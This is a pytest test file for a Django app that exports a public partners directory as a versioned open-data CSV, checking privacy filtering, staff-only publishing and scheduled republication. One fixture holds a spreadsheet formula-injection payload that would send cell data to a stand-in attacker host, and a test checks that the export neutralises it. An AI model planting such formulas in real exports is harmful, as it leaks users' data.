"""The public partners directory as an open dataset of the agency: public partnerships only, a private contact never
written, text a spreadsheet would run neutralised, one dataset and one resource, a new version only when the
directory changed; staff's button, the management command, and the publication scheduled after a change."""

import csv
import datetime as dt
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django_tasks_db.models import DBTaskResult

from auzolan.catalog.models import Dataset, Resource, ResourceVersion
from auzolan.core.models import AuditLogEntry
from auzolan.youth import opendata, services
from auzolan.youth.models import DirectoryOpenData
from tests.accounts.factories import UserFactory
from tests.organisations.factories import CommuneFactory, MembershipFactory, OrganisationFactory
from tests.youth.factories import PartnershipFactory

pytestmark = pytest.mark.django_db

TASK = "auzolan.youth.tasks.publish_directory"


@pytest.fixture
def agency():
    agency = OrganisationFactory(kind="agency", name="Agence numérique", slug="agence")
    MembershipFactory(organisation=agency, role="admin", state="active")
    return agency


@pytest.fixture
def partners():
    school = PartnershipFactory(
        organisation__name="Lycée du Labourd",
        kinds=["rencontres", "internships"],
        description='=HYPERLINK("http://evil.example/?"&A1) Des ateliers.',
        contact_role="Proviseur adjoint",
        contact_email="vie-scolaire@labourd.example.org",
    )
    commune = CommuneFactory(name="Bayonne", insee_code="64102")
    school.organisation.communes.add(commune)
    private_contact = PartnershipFactory(
        organisation__name="Maison des jeunes",
        organisation__kind="youth_centre",
        contact_role="Direction",
        contact_email="direction@mdj.example.org",
        contact_is_public=False,
        since=None,
    )
    hidden = PartnershipFactory(organisation__name="Collège caché", contact_email="cache@college.example.org")
    hidden.is_public = False
    hidden.save()
    return {"school": school, "private_contact": private_contact, "hidden": hidden}


def _rows(dataset: Dataset) -> list[list[str]]:
    version = ResourceVersion.objects.filter(resource__dataset=dataset).latest("number")
    with version.file.open("rb") as handle:
        return list(csv.reader(io.StringIO(handle.read().decode("utf-8"))))


def test_the_file_lists_public_partners_only_and_public_contacts_only(partners):
    rows = list(csv.reader(io.StringIO(opendata.directory_csv().decode("utf-8"))))
    assert rows[0] == opendata.HEADER
    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    assert sorted(by_name) == ["Lycée du Labourd", "Maison des jeunes"]  # the hidden partnership is absent
    school = by_name["Lycée du Labourd"]
    assert (school["commune"], school["code_insee"]) == ("Bayonne", "64102")
    assert school["collaborations"] == "Accueille des Rencontres Numériques ; Stages"
    assert school["partenaire_depuis"] == "2020-09-01"
    assert school["ce_que_nous_faisons_ensemble"].startswith("'=HYPERLINK(")  # formula-safe
    assert (school["contact_fonction"], school["contact_adresse"]) == (
        "Proviseur adjoint",
        "vie-scolaire@labourd.example.org",
    )
    assert school["url"].endswith(reverse("youth:partner_detail", args=[partners["school"].organisation.slug]))
    youth_centre = by_name["Maison des jeunes"]
    assert youth_centre["type"] == "Structure jeunesse (maison des jeunes, centre social)"
    assert (youth_centre["commune"], youth_centre["partenaire_depuis"]) == ("", "")
    assert (youth_centre["contact_fonction"], youth_centre["contact_adresse"]) == ("", "")
    content = opendata.directory_csv().decode("utf-8")
    assert "direction@mdj.example.org" not in content and "cache@college.example.org" not in content


def test_published_once_then_versioned_only_on_change(agency, partners):
    dataset = opendata.directory_publish()
    assert dataset.organisation == agency and dataset.state == Dataset.State.PUBLISHED
    resource = Resource.objects.get(dataset=dataset)
    assert len(_rows(dataset)) == 3
    assert opendata.directory_publish() == dataset
    assert ResourceVersion.objects.filter(resource=resource).count() == 1  # unchanged: no new version
    operator = UserFactory(is_staff=True)
    services.partnership_update(
        actor=operator, partnership=partners["hidden"], collaborations=["workshops"], is_public=True
    )
    opendata.directory_publish()
    assert Resource.objects.filter(dataset=dataset).count() == 1
    assert ResourceVersion.objects.filter(resource=resource).count() == 2
    assert "Collège caché" in [row[0] for row in _rows(dataset)]
    assert AuditLogEntry.objects.filter(action="youth.directory.open_data_published").count() == 3
    assert DirectoryOpenData.objects.get().dataset == dataset


def test_no_agency_no_publication(partners):
    assert opendata.directory_publish() is None


def test_the_management_command_publishes(agency, partners):
    out = io.StringIO()
    call_command("youth_publish_directory", stdout=out)
    assert out.getvalue().strip() == str(DirectoryOpenData.objects.get().dataset.identifier)


def test_staff_publish_from_the_management_page(agency, partners, client):
    client.force_login(UserFactory(is_staff=True))
    response = client.post(reverse("youth:directory_publish"), follow=True)
    assert response.redirect_chain[-1][0] == reverse("youth:manage_home")
    dataset = DirectoryOpenData.objects.get().dataset
    page = response.content.decode()
    assert "L&#x27;annuaire des partenaires est publié en données ouvertes" in page
    assert dataset.get_absolute_url() in page and "Publier l'annuaire en données ouvertes" in page


def test_staff_without_an_agency_get_the_reason(partners, client):
    client.force_login(UserFactory(is_staff=True))
    response = client.post(reverse("youth:directory_publish"), follow=True)
    assert "Aucune organisation « agence »" in response.content.decode()
    assert not Dataset.objects.exists()


@pytest.mark.parametrize("who", ["anonymous", "citizen", "partner_admin", "agency_admin"])
def test_the_button_is_staff_only(agency, partners, client, who):
    if who == "citizen":
        client.force_login(UserFactory())
    elif who == "partner_admin":
        client.force_login(MembershipFactory(organisation=partners["school"].organisation, role="admin").user)
    elif who == "agency_admin":  # may publish the agency's datasets in the catalogue, but youth's button is staff's
        client.force_login(MembershipFactory(organisation=agency, role="admin").user)
    response = client.post(reverse("youth:directory_publish"))
    assert response.status_code == (302 if who == "anonymous" else 404)
    if who == "anonymous":
        assert response["Location"].startswith(reverse("account_login"))
    assert not Dataset.objects.exists()


def test_changes_of_the_public_directory_schedule_one_debounced_task(partners, django_capture_on_commit_callbacks):
    opendata.directory_publication_started()
    operator = UserFactory(is_staff=True)
    tasks = DBTaskResult.objects.filter(task_path=TASK)
    with django_capture_on_commit_callbacks(execute=True):
        services.partnership_update_by_partner(
            actor=MembershipFactory(organisation=partners["hidden"].organisation, role="admin").user,
            partnership=partners["hidden"],
            description="Pas dans l'annuaire.",
        )
    assert tasks.count() == 0  # a partnership that is not public is not in the directory
    with django_capture_on_commit_callbacks(execute=True):
        services.partnership_update(
            actor=operator,
            partnership=partners["school"],
            collaborations=["workshops"],
            since=dt.date(2021, 1, 1),
        )
        services.partnership_delete(actor=operator, partnership=partners["private_contact"])
    assert tasks.count() == 1 and tasks.get().run_after is not None
    opendata.directory_publication_started()
